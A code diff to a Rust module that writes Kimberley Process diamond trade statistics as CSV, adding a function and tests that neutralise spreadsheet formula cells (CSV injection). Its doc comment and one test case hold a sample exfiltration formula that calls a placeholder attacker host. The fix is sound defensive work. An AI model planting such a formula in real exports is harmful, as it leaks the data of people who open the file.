@@ -1,4 +1,4 @@
-//! KP statistics (`domain.md` §3, Annex III): production by country of origin, region and
+//! KP statistics (KPCS Annex III): production by country of origin, region and
 //! mine site; exports and imports by country, HS code, partner and origin, with carats,
 //! US-dollar value, US$/ct and the number of certificates. Origin (where stones were mined)
 //! and provenance (the last exporting country) are kept apart: trade rows name both, and
@@ -452,10 +452,13 @@ impl Stats {
 
     /// The statistics as one CSV table (RFC 4180), a row per line of every section:
     /// `section,country,region,site,hs_code,partner,origin,certificates,parcels,carats,value_usd,usd_per_ct`.
-    /// Carats and dollars are decimals with two places, without separators.
+    /// Carats and dollars are decimals with two places, without separators. Text cells that
+    /// a spreadsheet would read as a formula are neutralised ([`csv_text`]); numeric cells are
+    /// written as numbers.
     pub fn to_csv(&self) -> Result<String, crate::ReportError> {
         let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
         let dec = |v: u64| format!("{}.{:02}", v / 100, v % 100);
+        let t = csv_text;
         let opt = |v: Option<u64>| v.map(dec).unwrap_or_default();
         w.write_record([
             "section",
@@ -479,12 +482,12 @@ impl Stats {
             for r in rows {
                 w.write_record([
                     section,
-                    &r.country,
-                    r.region.as_deref().unwrap_or(""),
-                    r.site.as_deref().unwrap_or(""),
+                    &t(&r.country),
+                    &t(r.region.as_deref().unwrap_or("")),
+                    &t(r.site.as_deref().unwrap_or("")),
                     "",
                     "",
-                    &r.country,
+                    &t(&r.country),
                     "",
                     &r.parcels.to_string(),
                     &dec(r.carats_pt),
@@ -497,12 +500,12 @@ impl Stats {
             for r in rows {
                 w.write_record([
                     section,
-                    &r.country,
+                    &t(&r.country),
                     "",
                     "",
-                    &r.hs_code,
-                    &r.partner,
-                    &r.origin,
+                    &t(&r.hs_code),
+                    &t(&r.partner),
+                    &t(&r.origin),
                     &r.certificates.to_string(),
                     "",
                     &dec(r.carats_pt),
@@ -514,12 +517,12 @@ impl Stats {
         for r in &self.exports_by_origin {
             w.write_record([
                 "exports_by_origin",
-                &r.country,
+                &t(&r.country),
                 "",
                 "",
                 "",
                 "",
-                &r.origin,
+                &t(&r.origin),
                 "",
                 "",
                 &dec(r.carats_pt),
@@ -529,5 +532,41 @@ impl Stats {
         }
         let bytes = w.into_inner().map_err(|e| crate::ReportError::Csv(e.to_string()))?;
         String::from_utf8(bytes).map_err(|e| crate::ReportError::Csv(e.to_string()))
+    }
+}
+
+/// A text cell of a CSV file, safe to open in a spreadsheet: a cell that begins with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as
+/// a formula (`=HYPERLINK("http://attacker.example/?d="&A1, "Kono")` sends the sheet's cells
+/// away when clicked), so it gets a leading single quote, as OWASP's "CSV Injection" page
+/// recommends; the quote shows that the cell was changed. Only text cells: numbers are never
+/// negative here and stay numbers.
+pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::csv_text;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_others_left_alone() {
+        for bad in [
+            "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Kono\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(csv_text(bad), format!("'{bad}"), "{bad:?}");
+        }
+        for good in ["Kono", "", "7102.31", "sl.kono.koidu-12", "a=b", "'quoted"] {
+            assert_eq!(csv_text(good), good, "{good:?}");
+        }
     }
 }
